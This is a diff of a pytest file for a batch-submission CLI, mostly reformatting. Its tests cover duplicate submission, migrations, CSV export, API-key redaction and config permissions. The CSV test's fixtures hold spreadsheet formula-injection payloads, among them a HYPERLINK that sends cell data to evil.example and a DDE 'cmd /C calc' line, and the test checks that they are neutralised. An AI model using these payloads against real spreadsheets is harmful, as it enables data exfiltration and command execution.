@@ -24,12 +24,13 @@ from typing import Any
 import pytest
 from rich.pretty import pretty_repr
 
-from batchdeck.core import config as config_mod
-from batchdeck.core import paths, sender
-from batchdeck.core.db import Database
-from batchdeck.core.jobstore import ContentClaimed, JobStore
-from batchdeck.core.migrations import MIGRATIONS
+from batchdeck.core.config import config_file as config_mod
+from batchdeck.core.config import paths
+from batchdeck.core.jobs import send as sender
 from batchdeck.core.session import Session
+from batchdeck.core.store.db import Database
+from batchdeck.core.store.job_repo import ContentClaimed, JobStore
+from batchdeck.core.store.migrations import MIGRATIONS
 from batchdeck.core.workspace import Workspace
 from batchdeck.emulator import Emulator
 from tests.core.conftest import run_cli
@@ -57,19 +58,23 @@ def _read_until(proc: subprocess.Popen[bytes], marker: bytes, timeout: float = 6
 
 # -- 1. double submission through the confirmation prompt -------------------------------------
 
-def test_a_prompt_answered_after_another_process_submitted_sends_nothing(home: Path, emulator: Emulator,
-                                                                        tmp_path: Path) -> None:
+
+def test_a_prompt_answered_after_another_process_submitted_sends_nothing(
+    home: Path, emulator: Emulator, tmp_path: Path
+) -> None:
     """A waits at [y/N] on a terminal; B submits the same file with --yes; A's "y" creates nothing."""
     source = tmp_path / "requests.jsonl"
     write_requests(source, 6)
     terminal, their_end = pty.openpty()
-    first = subprocess.Popen([*BATCHDECK, "submit", str(source)], stdin=their_end, stdout=subprocess.PIPE,
-                             stderr=subprocess.PIPE)
+    first = subprocess.Popen(
+        [*BATCHDECK, "submit", str(source)], stdin=their_end, stdout=subprocess.PIPE, stderr=subprocess.PIPE
+    )
     os.close(their_end)
     try:
         assert b"Submit 6 requests as 1 batch? [y/N]" in _read_until(first, b"[y/N]")
-        second = subprocess.run([*BATCHDECK, "submit", str(source), "--yes"], capture_output=True, text=True,
-                                timeout=60)
+        second = subprocess.run(
+            [*BATCHDECK, "submit", str(source), "--yes"], capture_output=True, text=True, timeout=60
+        )
         assert second.returncode == 0 and second.stdout.startswith(f"{source}: 6 requests"), second.stderr
         assert "job-1: submitted; 1 batch(es) created" in second.stdout
         os.write(terminal, b"y\n")
@@ -80,8 +85,10 @@ def test_a_prompt_answered_after_another_process_submitted_sends_nothing(home: P
             first.kill()
     message = err.decode()
     assert first.returncode == 2
-    assert message == (f"batchdeck: error: {source} was already submitted as job-1 (`batchdeck job show job-1`); "
-                       "pass --again to submit it a second time\n")
+    assert message == (
+        f"batchdeck: error: {source} was already submitted as job-1 (`batchdeck job show job-1`); "
+        "pass --again to submit it a second time\n"
+    )
     assert emulator.stats.calls("create") == 1 and len(client_batches(emulator)) == 1
     with Workspace.open() as ws:
         assert [j.id for j in JobStore(ws.db, ws.profile.name).jobs()] == ["job-1"]
@@ -106,20 +113,28 @@ def test_the_migration_keeps_every_job_of_a_content_submitted_twice(tmp_path: Pa
     old = sqlite3.connect(path)
     for script in MIGRATIONS[:5]:
         old.executescript(script)
-    old.executemany("INSERT INTO jobs (profile, id, name, source_file, content_hash, request_count, created_at) "
-                    "VALUES (?, ?, ?, ?, ?, ?, ?)",
-                    [("default", "job-1", "a", None, "hash-a", 2, "2026-11-01T10:00:00.000000Z"),
-                     ("default", "job-2", "a again", None, "hash-a", 2, "2026-11-02T10:00:00.000000Z"),
-                     ("default", "job-3", "attached", None, None, 1, "2026-11-03T10:00:00.000000Z"),
-                     ("work", "job-1", "a", None, "hash-a", 2, "2026-11-04T10:00:00.000000Z")])
+    old.executemany(
+        "INSERT INTO jobs (profile, id, name, source_file, content_hash, request_count, created_at) "
+        "VALUES (?, ?, ?, ?, ?, ?, ?)",
+        [
+            ("default", "job-1", "a", None, "hash-a", 2, "2026-11-01T10:00:00.000000Z"),
+            ("default", "job-2", "a again", None, "hash-a", 2, "2026-11-02T10:00:00.000000Z"),
+            ("default", "job-3", "attached", None, None, 1, "2026-11-03T10:00:00.000000Z"),
+            ("work", "job-1", "a", None, "hash-a", 2, "2026-11-04T10:00:00.000000Z"),
+        ],
+    )
     old.execute("PRAGMA user_version = 5")
     old.commit()
     old.close()
     db = Database(path)
     try:
         rows = db.conn.execute("SELECT profile, id, claimed_hash FROM jobs ORDER BY profile, id").fetchall()
-        assert [tuple(r) for r in rows] == [("default", "job-1", "hash-a"), ("default", "job-2", None),
-                                            ("default", "job-3", None), ("work", "job-1", "hash-a")]
+        assert [tuple(r) for r in rows] == [
+            ("default", "job-1", "hash-a"),
+            ("default", "job-2", None),
+            ("default", "job-3", None),
+            ("work", "job-1", "hash-a"),
+        ]
         with pytest.raises(ContentClaimed):
             JobStore(db, "default").new_job("a", None, "hash-a", 2, "2026-11-05T10:00:00.000000Z", claim=True)
     finally:
@@ -134,9 +149,9 @@ def _killed() -> None:
     raise Killed
 
 
-def test_an_interrupted_create_is_never_adopted_by_another_job(home: Path, emulator: Emulator, tmp_path: Path,
-                                                              capsys: pytest.CaptureFixture[str],
-                                                              monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_interrupted_create_is_never_adopted_by_another_job(
+    home: Path, emulator: Emulator, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Job 1 dies before its create reaches the API; job 2 (same size) dies after the API made its batch.
     Resumed, job 1 used to adopt job 2's batch (the only unclaimed one of its size above its anchor): its
     own rows were never sent and job 2's were sent twice. Every open create of the profile is now settled
@@ -166,10 +181,22 @@ STAMP = "2026-11-01T12:00:00.000000Z"
 
 
 def _succeeded(custom_id: str, text: str) -> dict[str, Any]:
-    return {"custom_id": custom_id, "result": {"type": "succeeded", "message": {
-        "id": f"msg_{custom_id.strip('-')}", "type": "message", "role": "assistant", "model": "claude-haiku-4-5",
-        "content": [{"type": "text", "text": text}], "stop_reason": "end_turn", "stop_sequence": None,
-        "usage": {"input_tokens": 12, "output_tokens": 7}}}}
+    return {
+        "custom_id": custom_id,
+        "result": {
+            "type": "succeeded",
+            "message": {
+                "id": f"msg_{custom_id.strip('-')}",
+                "type": "message",
+                "role": "assistant",
+                "model": "claude-haiku-4-5",
+                "content": [{"type": "text", "text": text}],
+                "stop_reason": "end_turn",
+                "stop_sequence": None,
+                "usage": {"input_tokens": 12, "output_tokens": 7},
+            },
+        },
+    }
 
 
 FORMULA_ROWS = [
@@ -181,30 +208,43 @@ FORMULA_ROWS = [
     _succeeded("cr", "\r=1+1"),
     _succeeded("-leading-dash", "a plain answer"),
     _succeeded("plain", "billing: it is fine = good"),
-    {"custom_id": "err", "result": {"type": "errored", "error": {"type": "error", "error": {
-        "type": "invalid_request_error", "message": "=cmd|' /C calc'!A0"}}}},
+    {
+        "custom_id": "err",
+        "result": {
+            "type": "errored",
+            "error": {"type": "error", "error": {"type": "invalid_request_error", "message": "=cmd|' /C calc'!A0"}},
+        },
+    },
 ]
-RESULTS_BODY = b"".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")).encode() + b"\n"
-                        for r in FORMULA_ROWS)
+RESULTS_BODY = b"".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")).encode() + b"\n" for r in FORMULA_ROWS)
 
 
 def _batch(base_url: str) -> dict[str, Any]:
     counts = {"processing": 0, "succeeded": 8, "errored": 1, "canceled": 0, "expired": 0}
-    return {"id": BATCH_ID, "type": "message_batch", "processing_status": "ended", "request_counts": counts,
-            "created_at": STAMP, "ended_at": STAMP, "expires_at": "2026-11-02T12:00:00.000000Z",
-            "cancel_initiated_at": None, "archived_at": None,
-            "results_url": f"{base_url}/v1/messages/batches/{BATCH_ID}/results"}
+    return {
+        "id": BATCH_ID,
+        "type": "message_batch",
+        "processing_status": "ended",
+        "request_counts": counts,
+        "created_at": STAMP,
+        "ended_at": STAMP,
+        "expires_at": "2026-11-02T12:00:00.000000Z",
+        "cancel_initiated_at": None,
+        "archived_at": None,
+        "results_url": f"{base_url}/v1/messages/batches/{BATCH_ID}/results",
+    }
 
 
 class _OneBatchApi(BaseHTTPRequestHandler):
     """A minimal Batches API holding one ended batch whose results are chosen by the test."""
 
-    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
+    def do_GET(self) -> None:
         base = f"http://127.0.0.1:{self.server.server_address[1]}"
         path = self.path.split("?", 1)[0]
         if path == "/v1/messages/batches":
-            body = json.dumps({"data": [_batch(base)], "has_more": False, "first_id": BATCH_ID,
-                               "last_id": BATCH_ID}).encode()
+            body = json.dumps(
+                {"data": [_batch(base)], "has_more": False, "first_id": BATCH_ID, "last_id": BATCH_ID}
+            ).encode()
             self._send(200, "application/json", body)
         elif path == f"/v1/messages/batches/{BATCH_ID}":
             self._send(200, "application/json", json.dumps(_batch(base)).encode())
@@ -237,9 +277,9 @@ def one_batch_api() -> Iterator[str]:
         server.server_close()
 
 
-def test_csv_cells_that_spreadsheets_would_run_are_neutralised(home: Path, tmp_path: Path,
-                                                               monkeypatch: pytest.MonkeyPatch,
-                                                               capsys: pytest.CaptureFixture[str]) -> None:
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
+    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     with one_batch_api() as base_url:
         monkeypatch.setenv("ANTHROPIC_BASE_URL", base_url)
         assert run_cli(capsys, "sync")[0] == 0
@@ -249,9 +289,17 @@ def test_csv_cells_that_spreadsheets_would_run_are_neutralised(home: Path, tmp_p
     with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
         rows = {r["custom_id"]: r for r in csv.DictReader(fh)}
     texts = {cid: row["text"] for cid, row in rows.items()}
-    assert texts == {"eq": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "plus": "'+1+cmd|' /C calc'!A0",
-                     "minus": "'-2+3", "at": "'@SUM(1,2)", "tab": "'\t=1+1", "cr": "'\r=1+1",
-                     "'-leading-dash": "a plain answer", "plain": "billing: it is fine = good", "err": ""}
+    assert texts == {
+        "eq": '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "plus": "'+1+cmd|' /C calc'!A0",
+        "minus": "'-2+3",
+        "at": "'@SUM(1,2)",
+        "tab": "'\t=1+1",
+        "cr": "'\r=1+1",
+        "'-leading-dash": "a plain answer",
+        "plain": "billing: it is fine = good",
+        "err": "",
+    }
     assert rows["err"]["error_message"] == "'=cmd|' /C calc'!A0"
     assert rows["plain"]["input_tokens"] == "12" and rows["plain"]["error_type"] == ""
     assert (tmp_path / "out.jsonl").read_bytes() == RESULTS_BODY  # the raw export stays exact
@@ -259,20 +307,31 @@ def test_csv_cells_that_spreadsheets_would_run_are_neutralised(home: Path, tmp_p
 
 # -- 5. a TUI crash with a stored key -----------------------------------------------------------
 
+
 def _store_key(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, base_url: str) -> None:
     """`batchdeck profile add stored --store-key`, the key typed on stdin."""
     monkeypatch.setattr(sys, "stdin", io.StringIO(KEY + "\n"))
     assert run_cli(capsys, "profile", "add", "stored", "--store-key", "--base-url", base_url)[0] == 0
 
 
-def test_a_stored_key_is_in_no_repr(home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str],
-                                    monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_stored_key_is_in_no_repr(
+    home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
     _store_key(capsys, monkeypatch, emulator.base_url)
     config = config_mod.load()
     profile = config.profile("stored")
     assert profile.resolve_key() == KEY  # still there for the client
-    shown = [repr(profile), str(profile), f"{profile}", repr(config), pretty_repr(config), pretty_repr(profile),
-             repr(profile.api_key), f"{profile.api_key}", repr(vars(Session(config, profile)))]
+    shown = [
+        repr(profile),
+        str(profile),
+        f"{profile}",
+        repr(config),
+        pretty_repr(config),
+        pretty_repr(profile),
+        repr(profile.api_key),
+        f"{profile.api_key}",
+        repr(vars(Session(config, profile))),
+    ]
     for text in shown:
         assert not any(leak in text for leak in LEAKS), text
     assert "Secret('[hidden]')" in repr(profile) and "api_key_env='ANTHROPIC_API_KEY'" in repr(profile)
@@ -280,8 +339,9 @@ def test_a_stored_key_is_in_no_repr(home: Path, emulator: Emulator, capsys: pyte
 
 @pytest.mark.anyio
 @pytest.mark.parametrize("debug", [False, True])
-async def test_a_tui_crash_shows_no_key(home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str],
-                                        monkeypatch: pytest.MonkeyPatch, debug: bool) -> None:
+async def test_a_tui_crash_shows_no_key(
+    home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, debug: bool
+) -> None:
     """A handler raises while the profile is one of its locals (as on_data_loaded has it), with the key in
     the error's text too (as an echoed header would put it): the report reaches the terminal, one line (the
     traceback only with BATCHDECK_DEBUG=1), and the key does not."""
@@ -311,11 +371,14 @@ async def test_a_tui_crash_shows_no_key(home: Path, emulator: Emulator, capsys: 
         assert "Traceback (most recent call last)" in report and "in on_data_loaded" in report
         assert "RuntimeError: the list could not be drawn (x-api-key: [redacted]) ␛]52;c;cHdu␇" in report
     else:
-        assert report == ("batchdeck: error: internal error in the TUI (RuntimeError: the list could not be drawn "
-                          "(x-api-key: [redacted]) ␛]52;c;cHdu␇); rerun with BATCHDECK_DEBUG=1 and report it\n")
+        assert report == (
+            "batchdeck: error: internal error in the TUI (RuntimeError: the list could not be drawn "
+            "(x-api-key: [redacted]) ␛]52;c;cHdu␇); rerun with BATCHDECK_DEBUG=1 and report it\n"
+        )
 
 
 # -- 16. one request line of 300 MB ------------------------------------------------------------
+
 
 def test_a_line_longer_than_a_batch_is_refused_in_bounded_memory(home: Path, tmp_path: Path) -> None:
     """300 MB of one request's text (a sparse file: written at once, read at disk-cache speed) between two
@@ -330,21 +393,26 @@ def test_a_line_longer_than_a_batch_is_refused_in_bounded_memory(home: Path, tmp
     length = len(head) + 300_000_000 + len(b'"}]}}')
     huge = run_batchdeck("submit", str(source), "--dry-run")
     small = run_batchdeck("submit", str(tmp_path / "good.jsonl"), "--dry-run")
-    print(f"peak RSS: {huge.peak_bytes / 2**20:.1f} MiB with the 300 MB line, {small.peak_bytes / 2**20:.1f} MiB "
-          "for two small lines")
+    print(
+        f"peak RSS: {huge.peak_bytes / 2**20:.1f} MiB with the 300 MB line, {small.peak_bytes / 2**20:.1f} MiB "
+        "for two small lines"
+    )
     assert huge.code == 2 and huge.stdout == ""
-    assert huge.stderr == (f"batchdeck: error: {source}: 1 bad line; nothing was submitted\n"
-                              f"  line 2: the line is {length:,} bytes, more than one batch can hold "
-                              "(256,000,000 bytes)\n")
+    assert huge.stderr == (
+        f"batchdeck: error: {source}: 1 bad line; nothing was submitted\n"
+        f"  line 2: the line is {length:,} bytes, more than one batch can hold "
+        "(256,000,000 bytes)\n"
+    )
     assert small.code == 0
     assert huge.peak_bytes < 100 * 2**20 and huge.peak_bytes < small.peak_bytes + 16 * 2**20
 
 
 # -- 17. a stored key in a config others can read ---------------------------------------------
 
+
 def test_a_stored_key_in_a_config_others_can_read_is_warned_about_and_made_private(
-        home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str],
-        monkeypatch: pytest.MonkeyPatch) -> None:
+    home: Path, emulator: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
     assert run_cli(capsys, "config", "set", "watch.interval", "45")[0] == 0
     config_file, config_dir = paths.config_file(), paths.config_file().parent
     os.chmod(config_file, 0o644)
@@ -355,8 +423,10 @@ def test_a_stored_key_in_a_config_others_can_read_is_warned_about_and_made_priva
     os.chmod(config_file, 0o644)  # as a copy between machines, or a restore from a backup, may leave it
     code, out, err = run_cli(capsys, "profile", "list")
     assert code == 0 and "stored in config" in out
-    assert err == (f"batchdeck: warning: config file {config_file} holds an API key and others could read it "
-                   f"({config_file} was 0644 and {config_dir} was 0755); made private (0600, directory 0700)\n")
+    assert err == (
+        f"batchdeck: warning: config file {config_file} holds an API key and others could read it "
+        f"({config_file} was 0644 and {config_dir} was 0755); made private (0600, directory 0700)\n"
+    )
     assert _mode(config_file) == 0o600 and _mode(config_dir) == 0o700
     assert run_cli(capsys, "profile", "list")[2] == ""  # said once: it is private now
     os.chmod(config_file, 0o640)
